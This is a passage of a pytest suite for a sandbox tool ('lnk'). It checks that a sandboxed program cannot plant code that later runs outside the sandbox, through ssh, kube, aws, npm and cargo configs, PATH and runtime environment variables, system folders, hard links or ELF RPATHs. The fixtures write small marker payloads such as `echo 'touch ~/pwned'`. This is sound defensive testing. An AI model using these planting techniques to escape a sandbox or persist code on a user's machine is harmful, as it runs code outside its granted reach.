        assert t.read_text() == "# mine\n", cp.stderr
    else:
        assert not t.exists(), cp.stderr


# Other tools' configuration in the home, naming a program or a file in the
# project (rule O): the config's path under the home, its text ({W} the
# project), what the program moves, and the file it plants or changes.
TOOL_CONFIGS = [
    (".ssh/config", "Host x\n  ProxyCommand {W}/bin/jump %h %p\n",
     "bin", "bin/jump"),
    (".ssh/config", "Host x\n\tLocalCommand={W}/local.sh\n", "local.sh",
     "local.sh"),
    (".ssh/config", "Match exec \"{W}/m.sh %h\"\n  User x\n", "m.sh",
     "m.sh"),
    (".ssh/config", "Host y\n  PKCS11Provider {W}/p11.so\n", "p11.so",
     "p11.so"),
    (".ssh/config", "Host z\n  UserKnownHostsFile ~/project/known\n", "known",
     "known"),
    (".ssh/config", "Include {W}/ssh.conf\n", "ssh.conf", "ssh.conf"),
    (".ssh/config", "Include {W}/ssh.d/*.conf\n", "ssh.d", "ssh.d/x.conf"),
    (".ssh/config", "Include ../project/rel.conf\n", "rel.conf", "rel.conf"),
    # ssh's %d is the home folder
    (".ssh/config", "Match exec \"%d/project/md.sh %h\"\n", "md.sh",
     "md.sh"),
    (".ssh/config", "Host k\n  KnownHostsCommand %d/project/khc %H\n",
     "khc", "khc"),
    (".aws/config", "[profile dev]\ncredential_process = {W}/creds --p dev\n",
     "creds", "creds"),
    (".kube/config", "users:\n- name: u\n  user:\n    exec:\n"
     "      command: {W}/token\n", "token", "token"),
    (".kube/config", "users:\n- name: u\n  user:\n    exec:\n"
     "      command: python3\n      args:\n      - \"{W}/tok.py\"\n",
     "tok.py", "tok.py"),
    (".kube/config", "users:\n- name: u\n  user:\n    exec:\n"
     "      command: ../project/rel-token\n", "rel-token", "rel-token"),
    (".npmrc", "script-shell={W}/npm-sh\n", "npm-sh", "npm-sh"),
    (".npmrc", "init-module=${HOME}/project/init.js\n", "init.js",
     "init.js"),
    (".cargo/config.toml", "[build]\nrustc-wrapper = \"{W}/wrap\"\n"
     "[target.x86_64-unknown-linux-gnu]\nrunner = [\"{W}/run\", \"-q\"]\n",
     "run", "run"),
    (".config/gh/config.yml", "aliases:\n    co: '!{W}/co.sh \"$1\"'\n",
     "co.sh", "co.sh"),
    (".config/pip/pip.conf", "[global]\ncert = {W}/ca.pem\n", "ca.pem",
     "ca.pem"),
]


@pytest.mark.parametrize("existing", [False, True])
@pytest.mark.parametrize("conf,text,value,target", TOOL_CONFIGS,
                         ids=[f"{c}-{t}" for c, _, _, t in TOOL_CONFIGS])
def test_what_other_tools_configs_name_is_protected(
        lnk, home, work, conf, text, value, target, existing):
    """Invariant 8 (what runs outside later), promise: a program changes
    only what nothing outside runs or trusts later.

    Threat: the user's ~/.ssh/config runs `ProxyCommand ~/project/bin/jump`
    (or includes a file there, loads a PKCS#11 library, trusts its known
    hosts file); a kubeconfig's user runs `command: ~/project/token`;
    ~/.aws/config's credential_process, ~/.npmrc's script-shell, cargo's
    rustc-wrapper and runner, a gh alias, pip's CA bundle. The program
    rewrites that file in its write folder, and the user's next ssh (or a
    granted `git fetch`), kubectl, aws, npm, cargo or gh runs it outside,
    as the user. Rule C keeps what git's config names; these tools' are
    kept the same way."""
    c = home / conf
    c.parent.mkdir(parents=True, exist_ok=True)
    c.write_text(text.replace("{W}", str(work)))
    planted_and_kept(lnk, work, value, target, existing)


# A kept file of the project (rule L) that names a script of the project:
# the kept file, its text, what the program moves, what it plants or
# changes. The kept file cannot change, but what it names could.
PROJECT_NAMED = [
    (".yarnrc.yml", "yarnPath: tools/yarn-4.cjs\n", "tools",
     "tools/yarn-4.cjs"),
    (".yarnrc.yml", "plugins:\n  - path: tools/plugin.cjs\n", "tools",
     "tools/plugin.cjs"),
    (".yarnrc", 'yarn-path "tools/yarn1.js"\n', "tools", "tools/yarn1.js"),
    (".npmrc", "script-shell=./tools/sh\n", "tools", "tools/sh"),
    (".npmrc", "node-options=--require ./tools/hook.js\n", "tools",
     "tools/hook.js"),
    (".cargo/config.toml", '[build]\nrustc-wrapper = "tools/wrap.sh"\n',
     "tools", "tools/wrap.sh"),
    (".envrc", "source_env tools/env.sh\n", "tools", "tools/env.sh"),
    (".envrc", "dotenv tools/env\n", "tools", "tools/env"),
    (".envrc", "[[ -f tools/p.sh ]] && source_env tools/p.sh\n", "tools",
     "tools/p.sh"),
    (".envrc", "if [ -f tools/x.sh ]; then source tools/x.sh; fi\n", "tools",
     "tools/x.sh"),
    (".envrc", 'eval "$(tools/env.sh)"\n', "tools", "tools/env.sh"),
    (".envrc", "tools/setup.sh\n", "tools", "tools/setup.sh"),
    (".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n"
     "  - id: x\n    entry: ./tools/check.sh\n    language: script\n",
     "tools", "tools/check.sh"),
    ("lefthook.yml", "pre-commit:\n  commands:\n    x:\n"
     "      run: ./tools/lh.sh {staged_files}\n", "tools", "tools/lh.sh"),
    # the other spellings of TOML and YAML the tools read the same
    (".cargo/config.toml", 'build.rustc-wrapper = "tools/w1"\n', "tools",
     "tools/w1"),
    (".cargo/config.toml", '[build]\n"rustc-wrapper" = "tools/w3"\n', "tools",
     "tools/w3"),
    (".cargo/config.toml", '[target.x]\nrunner = [\n  "tools/run2",\n'
     '  "-q",\n]\n', "tools", "tools/run2"),
    (".cargo/config.toml", '[target.x]\nlinker = """\ntools/link4"""\n',
     "tools", "tools/link4"),
    ("lefthook.yml", "pre-commit:\n  commands:\n    x:\n      run: |\n"
     "        ./tools/lh2.sh {staged_files}\n    y:\n      run: true\n",
     "tools", "tools/lh2.sh"),
    ("lefthook.yml", 'pre-commit:\n  commands:\n    x:\n'
     '      "run": ./tools/lh3.sh\n', "tools", "tools/lh3.sh"),
    (".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n"
     "  - {id: a, entry: ./tools/pc2.sh, language: script}\n", "tools",
     "tools/pc2.sh"),
    (".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n"
     "  - id: b\n    entry: >\n      ./tools/pc3.sh\n    language: script\n",
     "tools", "tools/pc3.sh"),
    (".vscode/settings.json", '{\n  "python.defaultInterpreterPath": '
     '"${workspaceFolder}/tools/py",\n  "editor.tabSize": 2\n}\n', "tools",
     "tools/py"),
    (".vscode/settings.json", '{"typescript.tsdk": "tools/ts/lib"}\n',
     "tools", "tools/ts/lib/tsserver.js"),
    (".vscode/settings.json", '{"ruff.path": ["./tools/ruff.sh"]}\n',
     "tools", "tools/ruff.sh"),
    # a module python runs, a configuration lefthook merges
    ("lefthook.yml", "pre-commit:\n  commands:\n    py:\n"
     "      run: python3 -m tools.lint\n", "tools", "tools/lint.py"),
    (".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n"
     "  - id: c\n    entry: python3 -u -m tools.check\n"
     "    language: system\n", "tools", "tools/check.py"),
    ("lefthook.yml", "extends:\n  - ci/base.yml\n", "ci", "ci/base.yml"),
    ("lefthook.yml", "source_dir: hk/\n", "hk", "hk/pre-commit/x.sh"),
    (".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n"
     "  - id: a\n    entry: python3\n    args: [tools/ck.py]\n"
     "    language: system\n", "tools", "tools/ck.py"),
    (".envrc", 'source "$PWD/tools/env2.sh"\n', "tools", "tools/env2.sh"),
    (".vscode/settings.json", '{"pylint.path": '
     '["${workspaceFolder}/tools/pylint.sh"]}\n', "tools", "tools/pylint.sh"),
    (".vscode/settings.json", '{"rust-analyzer.check.overrideCommand": '
     '["./tools/check.sh", "--x"]}\n', "tools", "tools/check.sh"),
    (".vscode/settings.json", '{"go.alternateTools": '
     '{"go": "./tools/go.sh"}}\n', "tools", "tools/go.sh"),
    (".vscode/settings.json", '{\n  "terminal.integrated.profiles.linux": '
     '{\n    "x": {\n      "path": "./tools/tsh"\n    }\n  }\n}\n',
     "tools", "tools/tsh"),
]


@pytest.mark.parametrize("existing", [False, True])
@pytest.mark.parametrize("kept,text,value,target", PROJECT_NAMED,
                         ids=[f"{k}-{t}" for k, _, _, t in PROJECT_NAMED])
def test_what_a_kept_project_file_names_is_kept(lnk, work, kept, text, value,
                                                target, existing):
    """Invariant 8 (what runs outside later), promise: a program changes
    only what nothing outside runs later.

    Threat: the project's .yarnrc.yml is kept read only, but its yarnPath
    names tools/yarn-4.cjs, which the program rewrote: the user's next
    `yarn` ran it. The same for yarn 1's yarn-path, .npmrc's script-shell
    and node-options, cargo's rustc-wrapper, direnv's source_env and
    dotenv (no new `direnv allow` is asked), a pre-commit local hook's
    entry, a lefthook command, what .vscode/settings.json runs."""
    k = work / kept
    k.parent.mkdir(parents=True, exist_ok=True)
    k.write_text(text)
    planted_and_kept(lnk, work, value, target, existing)


def test_what_a_kept_project_file_names_only_is_kept(lnk, work):
    """Invariant 8 (what runs outside later), promise: a program changes
    only what nothing outside runs later, and its tools keep working.

    The other side of the same rule: a key that names no program (yarn's
    cache folder, npm's cache), what .envrc puts on PATH and a path into
    the installed dependencies leave their folders the program's to
    write, as an install needs."""
    (work / ".yarnrc.yml").write_text("cacheFolder: ./cache\n"
                                      "yarnPath: tools/yarn.cjs\n")
    (work / ".npmrc").write_text("cache=./npm-cache\n")
    # what .envrc puts on PATH is most often what a build writes, and a
    # hook or an editor's setting often names an installed dependency:
    # npm install must still make node_modules
    (work / ".envrc").write_text("PATH_add node_modules/.bin\n")
    (work / ".vscode").mkdir()
    (work / ".vscode" / "settings.json").write_text(
        '{"typescript.tsdk": "node_modules/typescript/lib",\n'
        ' "python.defaultInterpreterPath": "env/bin/python"}\n')
    # a virtualenv of any name is the install's too
    (work / "env" / "bin").mkdir(parents=True)
    (work / "env" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (work / ".pre-commit-config.yaml").write_text(
        "repos:\n- repo: local\n  hooks:\n  - id: e\n"
        "    entry: ./node_modules/.bin/eslint --fix\n")
    cp = sh_to_the_end(lnk, "mkdir -p cache npm-cache node_modules/.bin && "
                       "echo x > cache/a && echo x > npm-cache/b && "
                       "echo x > node_modules/.bin/c && "
                       "echo x > env/bin/python", "--write", work)
    assert (work / "env" / "bin" / "python").exists(), cp.stderr
    assert (work / "node_modules" / ".bin" / "c").exists(), cp.stderr
    assert (work / "cache" / "a").exists(), cp.stderr
    assert (work / "npm-cache" / "b").exists(), cp.stderr


# Variables of the user's environment that name a program or a folder git
# (or sudo, man, a browser opener) runs, missing from rule E's table.
MORE_ENV = [
    ("GIT_EXTERNAL_DIFF", "tools/diff", "tools/diff"),
    ("GIT_SEQUENCE_EDITOR", "tools/seq", "tools/seq"),
    ("GIT_TEMPLATE_DIR", "tmpl", "tmpl/hooks/post-checkout"),
    ("GIT_EXEC_PATH", "libexec", "libexec/git-status"),
    ("SUDO_ASKPASS", "tools/askpass", "tools/askpass"),
    ("MANPAGER", "tools/pager", "tools/pager"),
    ("BROWSER", "tools/browser", "tools/browser"),
    ("PIP_CONFIG_FILE", "pip.conf", "pip.conf"),
]


@pytest.mark.parametrize("var,value,target", MORE_ENV,
                         ids=[v for v, _, _ in MORE_ENV])
def test_more_programs_the_environment_names_protected(lnk, work, var, value,
                                                       target):
    """Invariant 8 (what runs outside later), promise: the folders of the
    user's PATH and the files the environment names are kept, and what cannot
    be kept is reported.

    Threat (rule E): the user's GIT_EXTERNAL_DIFF (GIT_SEQUENCE_EDITOR,
    GIT_TEMPLATE_DIR, GIT_EXEC_PATH, SUDO_ASKPASS, MANPAGER, BROWSER,
    PIP_CONFIG_FILE) names a program or folder in the project: the program
    plants it, and the user's next git diff, rebase, init, git command,
    sudo -A (given the password), man or link opened runs it (or installs
    from the index it names), outside."""
    t = work / target
    cp = sh_to_the_end(
        lnk, f"mkdir -p {os.path.dirname(target) or '.'}; "
        f"echo 'touch ~/pwned' >> {target}; true", "--write", work,
        env={var: str(work / value)})
    assert not t.exists(), cp.stderr


# Options every start of a runtime reads, and more files and commands of
# the user's environment: the value as the user's profile sets it ({w} the
# write folder), and the file the program plants.
RUNTIME_ENV = [
    ("NODE_OPTIONS", "--require {w}/hook.js", "hook.js"),
    ("NODE_OPTIONS", "--import={w}/m.mjs --max-old-space-size=4096",
     "m.mjs"),
    ("PERL5OPT", "-I{w}/lib -MEvil", "lib/Evil.pm"),
    ("RUBYOPT", "-r{w}/boot.rb", "boot.rb"),
    ("JAVA_TOOL_OPTIONS", "-javaagent:{w}/agent.jar", "agent.jar"),
    ("JAVA_TOOL_OPTIONS", "-javaagent:{w}/agent2.jar=opts", "agent2.jar"),
    ("_JAVA_OPTIONS", "-agentpath:{w}/lib.so=x,y", "lib.so"),
    ("NODE_OPTIONS", "--import=file://{w}/u.mjs", "u.mjs"),
    ("NODE_OPTIONS", "--experimental-loader file://{w}/l.mjs", "l.mjs"),
    ("NODE_OPTIONS", "--require=./rel.js", "rel.js"),
    ("RUBYOPT", "-r./rb.rb", "rb.rb"),
    ("VIMINIT", "so {w}/vimrc", "vimrc"),
    ("LESSKEYIN", "{w}/lesskey", "lesskey"),
    ("RUSTC_WRAPPER", "{w}/wrap", "wrap"),
    ("GOENV", "{w}/go.env", "go.env"),
    ("BASH_COMPLETION_USER_FILE", "{w}/completions", "completions"),
]


@pytest.mark.parametrize("var,value,target", RUNTIME_ENV,
                         ids=[f"{v}-{i}" for i, (v, _, _) in
                              enumerate(RUNTIME_ENV)])
def test_options_a_runtime_reads_at_every_start_protected(lnk, work, var,
                                                         value, target):
    """Invariant 8 (what runs outside later), promise: the folders of the
    user's PATH and the files the environment names are kept, and what cannot
    be kept is reported.

    Threat (rule E): the user's profile sets NODE_OPTIONS=--require
    ~/proj/hook.js (PERL5OPT, RUBYOPT, JAVA_TOOL_OPTIONS' -javaagent,
    VIMINIT, LESSKEYIN, RUSTC_WRAPPER, GOENV, bash-completion's user
    file): the program rewrote the file, and every node, perl, ruby, java,
    vim, less, cargo or go the user starts next loaded it."""
    t = work / target
    cp = sh_to_the_end(
        lnk, f"mkdir -p {os.path.dirname(target) or '.'}; "
        f"echo 'touch ~/pwned' >> {target}; true", "--write", work,
        env={var: value.format(w=work)})
    assert not t.exists(), cp.stderr


# The write folder also shown at a second path; PATH names a folder by that
# second path. A folder of PATH spelled by the bind of the write folder.
PATH_BY_SECOND = """
    mount --bind '{work}' '{second}' || exit 99
    PATH='{second}/venv/bin:/usr/bin:/bin' {lnk} sandbox run --write '{work}' \
        -- /bin/sh -c 'mkdir -p venv/bin; echo evil > venv/bin/ls; true' \
        || exit 3
    exit 0
"""


# A folder of PATH outside every grant, shown inside a write folder by a
# bind mount there.
PATH_SHOWN_INSIDE = """
    mount --bind '{tools}' '{work}/mnt' || exit 99
    PATH='{tools}/bin:/usr/bin:/bin' {lnk} sandbox run --write '{work}' \
        -- /bin/sh -c 'mkdir -p mnt/bin; echo evil > mnt/bin/ls; true' \
        || exit 3
    exit 0
"""


# The environment names git's global config by the second path.
GITCONFIG_BY_SECOND = """
    mount --bind '{work}' '{second}' || exit 99
    GIT_CONFIG_GLOBAL='{second}/gitconfig' {lnk} sandbox run \
        --write '{work}' -- /bin/sh -c \
        'printf "[core]\\n\\tpager = sh -c evil\\n" > gitconfig; true' \
        || exit 3
    exit 0
"""


def test_path_folder_at_a_second_path_of_a_write_folder_not_planted(
        lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a folder of the
    user's PATH inside a write folder is kept, judged by what it is, not
    its spelling.

    Threat: the write folder is also shown at a second path (a bind
    mount) and PATH names a folder by that path: the rule compared
    spellings, so the program made venv/bin/ls, which the user's shell
    runs at the next `ls`."""
    second = tmp_path / "second"
    second.mkdir()
    cp = in_private_mounts(lnk, PATH_BY_SECOND.format(
        work=work, second=second, lnk=lnk_under_mounts(lnk)))
    if cp.returncode == 99:
        pytest.skip("cannot bind mount here: " + cp.stderr)
    assert cp.returncode == 0, (cp.returncode, cp.stderr)
    assert not (work / "venv" / "bin" / "ls").exists(), cp.stderr


def test_path_folder_shown_inside_a_write_folder_not_planted(
        lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a folder of the
    user's PATH that a write folder shows is kept.

    Threat: a folder outside every grant is bound inside the write folder
    (a container's bind, a second mount) and it holds a folder of PATH:
    the program writes bin/ls there through the bind."""
    tools = tmp_path / "tools"
    tools.mkdir()
    (work / "mnt").mkdir()
    cp = in_private_mounts(lnk, PATH_SHOWN_INSIDE.format(
        work=work, tools=tools, lnk=lnk_under_mounts(lnk)))
    if cp.returncode == 99:
        pytest.skip("cannot bind mount here: " + cp.stderr)
    assert cp.returncode == 0, (cp.returncode, cp.stderr)
    assert not (tools / "bin" / "ls").exists(), cp.stderr


def test_git_config_named_at_a_second_path_not_planted(lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: the configuration
    the environment names inside a write folder is kept, judged by what
    it is.

    Threat: GIT_CONFIG_GLOBAL names a file by a second path of the write
    folder (a bind mount): the program wrote a core.pager there, which the
    user's next `git log` runs."""
    second = tmp_path / "second"
    second.mkdir()
    cp = in_private_mounts(lnk, GITCONFIG_BY_SECOND.format(
        work=work, second=second, lnk=lnk_under_mounts(lnk)))
    if cp.returncode == 99:
        pytest.skip("cannot bind mount here: " + cp.stderr)
    assert cp.returncode == 0, (cp.returncode, cp.stderr)
    assert not (work / "gitconfig").exists(), cp.stderr


# =============================================================================
# F. The system's trees
#    Promise: the system's trees are never a write grant, by spelling or by
#    identity.
# =============================================================================


def test_etc_is_never_a_write_grant(lnk):
    """Invariant 8 (what runs outside later), promise: the system's trees are
    never a write grant, by spelling or by identity.

    Threat: a sandbox run as root with --write /etc (or a folder in it)
    changes what root's programs run and trust."""
    for d in ("/etc", "/etc/default"):
        cp = lnk.run("--write", d, "--", "true")
        assert cp.returncode != 0, cp.stdout + cp.stderr
        assert "system folder" in cp.stderr, cp.stderr
    lnk.run("--read", "/etc", "--", "true", check=True)


SYSTEM_TREES = ["/var", "/var/lib", "/var/lib/dpkg", "/var/spool",
                "/var/cache", "/var/backups", "/opt", "/srv", "/etc", "/usr",
                "/bin", "/boot"]


@pytest.mark.parametrize("tree", SYSTEM_TREES)
def test_system_tree_never_a_write_grant(lnk, home, tree):
    """Invariant 8 (what runs outside later), promise: the system's trees are
    never a write grant, by spelling or by identity.

    Threat: as root, `--write /var/lib` (or /var) is accepted and the
    program writes a dpkg maintainer script that dpkg later runs as root;
    the same through a link to it. As a user, the same trees are refused
    (where a user can write one, the same holds)."""
    if not os.path.exists(tree):
        pytest.skip(f"{tree} does not exist on this machine")
    for grant in (tree, home / "link"):
        if grant != tree:
            grant.symlink_to(tree)
        cp = lnk.run("--write", grant, "--", "/bin/true")
        assert cp.returncode != 0, (grant, cp.stderr)
        assert "--read" in cp.stderr and "of your own" in cp.stderr, \
            cp.stderr
    cp = lnk.run("--read", tree, "--", "/bin/true")
    assert cp.returncode == 0, cp.stderr


def test_system_tree_through_a_bind_mount_refused(lnk, home):
    """Invariant 8 (what runs outside later), promise: the system's trees are
    never a write grant, by spelling or by identity.

    Threat: /var/lib shown at another path by a bind mount (a container's
    bind, a second mount of the same file system): `--write` of that path
    writes dpkg's scripts all the same. The tree is known by identity."""
    bound = home / "bound"
    bound.mkdir()
    cp = in_private_mounts(lnk, f"""
        mount --bind /var/lib '{bound}' || exit 99
        '{lnk.bin}' sandbox run --write '{bound}' -- /bin/true && exit 3
        '{lnk.bin}' sandbox run --write '{bound}/dpkg' -- /bin/true && exit 4
        exit 0""")
    assert cp.returncode != 99, cp.stderr
    assert cp.returncode == 0, cp.stderr
    assert "bind mount" in cp.stderr and "/var/lib" in cp.stderr, cp.stderr


# =============================================================================
# G. Tools, dialogs and lnk itself, run outside
#    Promise: a tool, a dialog tool and lnk itself run outside and run or load
#    nothing the program can write.
# =============================================================================

# A tool runs outside, as the user: whatever decides what it executes (its
# file, its interpreter, the folders of its PATH, its environment) must be
# out of the program's reach; so must lnk's own loader path and the
# desktop's dialog tool.


@pytest.mark.parametrize("how", ["link", "interpreter", "bind"])
def test_tool_the_program_can_rewrite_is_refused(lnk, work, tmp_path, how):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: the tool's real file (a PATH entry's link into the project,
    `ln -s ~/code/app/bin/deploy ~/bin/`) or its script's interpreter
    (`#!/home/u/code/app/.venv/bin/python`) lies in a write folder: the
    program rewrites it and calls the tool, and its own code runs outside,
    as the user. Such a tool stops the start."""
    marker = tmp_path / "pwned"
    evil = f"#!/bin/sh\necho pwned > {marker}\n"
    inside = work / "tools"
    inside.mkdir()
    if how == "link":
        real = inside / "mytool"
        real.write_text("#!/bin/sh\necho honest\n")
        real.chmod(0o755)
        bindir = tmp_path / "toolbin2"
        bindir.mkdir()
        (bindir / "mytool").symlink_to(real)
        bindir.chmod(0o755)
        base = lnk.env
        lnk.env = lambda extra=None: {
            **base(extra), "PATH": f"{bindir}:{base(extra)['PATH']}"}
        target = real
    elif how == "interpreter":
        interp = inside / "interp"
        interp.write_text("#!/bin/sh\nexec /bin/sh \"$@\"\n")
        interp.chmod(0o755)
        _tool_on_path(lnk, tmp_path, f"#!{interp}\necho honest\n")
        target = interp
    else:
        # the same folder at another path: a bind mount of the project
        if not IS_ROOT:
            pytest.skip("a bind mount needs root")
        real = inside / "mytool"
        real.write_text("#!/bin/sh\necho honest\n")
        real.chmod(0o755)
        bound = tmp_path / "toolbin2"
        bound.mkdir()
        subprocess.run(["mount", "--bind", str(work), str(bound)],
                       check=True)
        bindir = bound / "tools"
        base = lnk.env
        lnk.env = lambda extra=None: {
            **base(extra), "PATH": f"{bindir}:{base(extra)['PATH']}"}
        target = real
    try:
        cp = sh(lnk, f"printf '{evil}' > {target}; chmod +x {target}; "
                "mytool hi", "--write", work, "--tool", "mytool *")
    finally:
        if how == "bind":
            subprocess.run(["umount", str(tmp_path / "toolbin2")])
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 2, (cp.returncode, cp.stdout, cp.stderr)
    assert "write folder" in cp.stderr, cp.stderr


# A tool runs outside, as the user (or root). Its file, its interpreter and
# the folders its loader searches must be out of the program's reach: a
# second name (a hard link) of the file inside a write folder, or an ELF's
# RPATH/RUNPATH or loader there, is the same as the file being there.
EVIL_TOOL = "#!/bin/sh\necho pwned > {marker}\n"


@pytest.mark.parametrize("what", ["tool", "interpreter", "env"])
def test_tool_hard_linked_into_a_write_folder_is_refused(lnk, work, tmp_path,
                                                         what):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: the tool's file, or its script's interpreter, has a second
    name (a hard link: `ln`, `cp -al`, perf's ~/.debug, a package store) in
    a write folder; the program writes the file through that name and calls
    the tool, and its own code runs outside. Such a tool stops the start."""
    marker = tmp_path / "pwned"
    inside = work / "tools"
    inside.mkdir()
    if what == "tool":
        prog = _tool_on_path(lnk, tmp_path, "#!/bin/sh\necho honest\n")
        os.link(prog, inside / "mytool")
        target = inside / "mytool"
    else:
        # the interpreter named, or found on PATH by #!/usr/bin/env
        ibin = tmp_path / "interpbin"
        ibin.mkdir()
        interp = ibin / "interp"
        interp.write_text("#!/bin/sh\nexec /bin/sh \"$@\"\n")
        interp.chmod(0o755)
        ibin.chmod(0o755)
        os.link(interp, inside / "interp")
        _tool_on_path(lnk, tmp_path, f"#!{interp}\necho honest\n"
                      if what == "interpreter" else
                      "#!/usr/bin/env interp\necho honest\n")
        if what == "env":
            base = lnk.env
            lnk.env = lambda extra=None: {
                **base(extra), "PATH": f"{base(extra)['PATH']}:{ibin}"}
        target = inside / "interp"
    cp = sh(lnk, f"printf '{EVIL_TOOL.format(marker=marker)}' > {target}; "
            "mytool hi", "--write", work, "--tool", "mytool *")
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 2, (cp.returncode, cp.stdout, cp.stderr)
    assert "hard link" in cp.stderr and str(target) in cp.stderr, cp.stderr


def _cc(tmp_path, src, out, *args):
    """Compiles SRC (C text) to OUT with the host's cc; skips without one."""
    cc = shutil.which("cc")
    if not cc:
        pytest.skip("no C compiler on this machine to build the ELF file")
    c = tmp_path / (out.name + ".c")
    c.write_text(src)
    subprocess.run([cc, "-o", str(out), str(c), *args], check=True)
    out.chmod(0o755)
    return out


@pytest.mark.parametrize("how", ["runpath", "rpath", "origin", "loader"])
def test_tool_whose_loader_reads_a_write_folder_is_refused(lnk, work,
                                                           tmp_path, how):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: an ELF tool's RUNPATH or RPATH (absolute, or $ORIGIN/..
    through a link) names a folder inside a write folder, or its loader
    (PT_INTERP) lies there: the program plants a library there (or
    rewrites the loader) and the tool loads it outside."""
    libdir = work / "lib"
    libdir.mkdir()
    bindir = tmp_path / "toolbin2"
    bindir.mkdir()
    src = "int main(void) { return 0; }\n"
    if how == "runpath":
        args = [f"-Wl,-rpath,/nonexistent:{libdir}", "-Wl,--enable-new-dtags"]
    elif how == "rpath":
        args = [f"-Wl,-rpath,{libdir}", "-Wl,--disable-new-dtags"]
    elif how == "origin":
        (bindir / "deps").symlink_to(work)
        args = ["-Wl,-rpath,$ORIGIN/deps/lib"]
    else:
        ld = "/lib64/ld-linux-x86-64.so.2"
        if not os.path.exists(ld):
            pytest.skip("no x86-64 loader to copy on this machine")
        shutil.copy(ld, libdir / "ld.so")
        args = [f"-Wl,--dynamic-linker={libdir}/ld.so"]
    _cc(tmp_path, src, bindir / "mytool", *args)
    bindir.chmod(0o755)
    base = lnk.env
    lnk.env = lambda extra=None: {
        **base(extra), "PATH": f"{bindir}:{base(extra)['PATH']}"}
    cp = lnk.run("--write", work, "--tool", "mytool *", "--", "mytool")
    assert cp.returncode == 2, (cp.returncode, cp.stdout, cp.stderr)
    assert "write folder" in cp.stderr and "mytool" in cp.stderr, cp.stderr


def test_tool_path_has_no_folder_the_program_writes(lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: lnk's PATH holds '.' or an empty entry (the current folder);
    a tool runs with lnk's environment in the program's folder, so a
    command the tool runs by name (`ls`, `git`) is the program's file
    there, run outside. The tool's PATH keeps only absolute folders."""
    marker = tmp_path / "pwned"
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\nls >/dev/null 2>&1\n"
                  "echo \"PATH=$PATH\"\n")
    base = lnk.env
    for path in (".:{}", ":{}", "{}:", "bin:{}"):
        lnk.env = lambda extra=None, p=path: {
            **base(extra), "PATH": p.format(base(extra)["PATH"])}
        cp = sh(lnk, f"mkdir -p bin; for f in ls bin/ls; do "
                f"printf '#!/bin/sh\\necho pwned > {marker}\\n' > $f; "
                "chmod +x $f; done; mytool", "--write", work,
                "--tool", "mytool *")
        assert not marker.exists(), (path, cp.stdout, cp.stderr)
        assert cp.returncode == 0, (path, cp.stdout, cp.stderr)
        entries = cp.stdout.strip().split("=", 1)[1].split(":")
        assert all(e.startswith("/") for e in entries), cp.stdout


@pytest.mark.parametrize("var,plant,tool", [
    ("PYTHONPATH", "json.py",
     "#!/usr/bin/python3\nimport json\nprint('tool ok')\n"),
    ("LD_LIBRARY_PATH", "libc.so.6", "#!/bin/sh\necho tool ok\n"),
])
def test_tool_search_paths_have_no_folder_the_program_writes(
        lnk, work, tmp_path, var, plant, tool):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: `export LD_LIBRARY_PATH=$LD_LIBRARY_PATH:/opt/lib` left an
    empty first entry in the user's shell, which the loader (and Python,
    for PYTHONPATH) reads as the current folder; the tool runs there, in
    the program's folder, and loads the program's libc.so.6 or json.py
    outside, as the user."""
    marker = tmp_path / "pwned"
    _tool_on_path(lnk, tmp_path, tool)
    base = lnk.env
    lnk.env = lambda extra=None: {**base(extra), var: ":/nonexistent"}
    code = (f"open({str(marker)!r}, 'w').write('x')\n"
            if plant.endswith(".py") else "not a library\n")
    (tmp_path / "plant").write_text(code)
    cp = sh(lnk, f"cp {tmp_path}/plant {plant}; mytool", "--write", work,
            "--read", tmp_path / "plant", "--tool", "mytool *")
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 0 and cp.stdout == "tool ok\n", \
        (cp.returncode, cp.stdout, cp.stderr)


@pytest.mark.parametrize("var", ["PATH", "LD_LIBRARY_PATH", "PYTHONPATH"])
def test_tool_search_path_inside_a_write_folder_is_dropped(lnk, work,
                                                          tmp_path, var):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: lnk's environment names a folder inside a write folder by
    its absolute path (an activated virtualenv's .venv/bin, direnv's
    node_modules/.bin, PYTHONPATH=~/code/app/src): a tool, outside, runs
    or loads from there by name (`ls`, `git`, a module), and the program
    puts its own file there first. Such an entry is dropped from the
    tool's environment, as a relative one is."""
    marker = tmp_path / "pwned"
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\nls >/dev/null 2>&1\n"
                  f"echo \"{var}=${var}\"\n")
    inside = work / "bin"
    inside.mkdir()
    base = lnk.env
    lnk.env = lambda extra=None: {
        **base(extra),
        var: f"{inside}:/opt/x" + (":" + base(extra)["PATH"]
                                   if var == "PATH" else "")}
    cp = sh(lnk, f"printf '#!/bin/sh\\necho pwned > {marker}\\n' > "
            f"{inside}/ls; chmod +x {inside}/ls; mytool",
            "--write", work, "--tool", "mytool *")
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 0, (cp.stdout, cp.stderr)
    got = cp.stdout.strip().split("=", 1)[1].split(":")
    assert str(inside) not in got and "/opt/x" in got, cp.stdout


def test_tool_environment_names_no_file_the_program_writes(lnk, work,
                                                           tmp_path):
